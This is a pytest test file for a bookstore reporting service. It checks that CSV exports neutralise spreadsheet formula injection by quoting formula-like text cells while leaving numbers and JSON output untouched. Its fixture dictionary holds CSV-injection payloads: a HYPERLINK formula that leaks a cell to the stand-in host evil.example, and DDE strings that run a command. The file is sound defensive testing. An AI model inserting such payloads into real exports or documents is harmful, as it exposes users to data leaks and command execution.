"""CSV exports neutralise formula cells (OWASP CSV injection): a text cell that a
spreadsheet would read as a formula starts with a single quote; numbers stay numbers."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest

from bookbrew.reporting.api import csv_cell
from tests.reporting.conftest import ReportingUnderTest
from tests.reporting.simulation import START, Order, Product, Simulation, _order, _product, at

HOSTILE = {
    "BO-1": '=HYPERLINK("http://evil.example/?leak="&A1,"Click for a discount")',
    "BO-2": "+1+cmd|' /C calc'!A0",
    "BO-3": "-2+3",
    "BO-4": "@SUM(1+1)*cmd|' /C calc'!A0",
    "BO-5": "\t=1+1",
    "BO-6": "\r=1+1",
}


async def feed_hostile_products(reporting: ReportingUnderTest) -> None:
    sim = Simulation()
    consume = reporting.consumer()
    for n, (sku, name) in enumerate(HOSTILE.items()):
        product = Product(sku, name, "book", price=1000 + n, stock=2)
        sim.products[sku] = product
        await consume(_product(product, 1, at(START, n), stock=product.stock))
    placed = at(START + timedelta(days=1), 0)
    order = Order("ord-1", "cust-1", [(sku, 1) for sku in HOSTILE], placed, placed, None)
    for verb in ("placed", "confirmed"):
        await consume(_order(sim, order, verb, placed))


@pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
async def test_formula_cells_come_out_quoted_and_json_is_untouched(
    reporting: ReportingUnderTest, admin_headers: dict[str, str]
) -> None:
    await feed_hostile_products(reporting)
    params = {"from": START.isoformat(), "to": (START + timedelta(days=6)).isoformat()}

    for report in ("top-products", "low-stock", "sell-through"):
        answer = await reporting.client.get(
            f"/reports/{report}.csv", params=params, headers=admin_headers
        )
        assert answer.status_code == 200, answer.text
        header, *rows = list(csv.reader(io.StringIO(answer.text, newline="")))
        named = {row[header.index("sku")]: row[header.index("name")] for row in rows}
        assert named == {sku: "'" + name for sku, name in HOSTILE.items()}, report
        # Numeric columns are numbers, not quoted text.
        for row in rows:
            for column in ("units_sold", "stock", "units", "revenue_minor"):
                if column in header:
                    assert row[header.index(column)].isdigit(), (report, column, row)

        body = await reporting.client.get(
            f"/reports/{report}", params=params, headers=admin_headers
        )
        assert {row["name"] for row in body.json()["rows"]} == set(HOSTILE.values()), report


def test_numbers_are_data_and_only_text_is_neutralised() -> None:
    assert csv_cell(-5) == -5
    assert csv_cell(-0.25) == -0.25
    assert csv_cell(None) == ""
    assert csv_cell("-5") == "'-5"
    assert csv_cell("2026-01-05") == "2026-01-05"
    assert csv_cell("Ethiopia = good") == "Ethiopia = good"
    assert csv_cell("") == ""


@pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
async def test_a_line_break_inside_a_name_stays_inside_its_cell(
    reporting: ReportingUnderTest, admin_headers: dict[str, str]
) -> None:
    consume = reporting.consumer()
    product = Product("BO-7", "Harmless\r=1+1\n@2", "book", price=900, stock=1)
    await consume(_product(product, 1, at(START, 0), stock=1))
    params = {"from": START.isoformat(), "to": START.isoformat()}
    answer = await reporting.client.get(
        "/reports/low-stock.csv", params=params, headers=admin_headers
    )
    assert answer.status_code == 200, answer.text
    header, *rows = list(csv.reader(io.StringIO(answer.text, newline="")))
    assert len(rows) == 1
    assert rows[0][header.index("name")] == "Harmless\r=1+1\n@2"
    assert answer.text.splitlines()[0].startswith('"sku",')
